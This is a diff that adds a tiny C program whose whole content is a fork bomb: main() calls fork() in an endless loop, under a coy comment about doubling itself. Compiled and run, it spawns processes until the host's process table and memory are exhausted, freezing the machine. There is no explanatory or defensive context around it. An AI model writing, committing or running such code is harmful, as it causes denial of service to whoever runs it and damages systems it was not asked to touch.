@@ -1,0 +1,6 @@
+/* Doubles itself for as long as it may. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
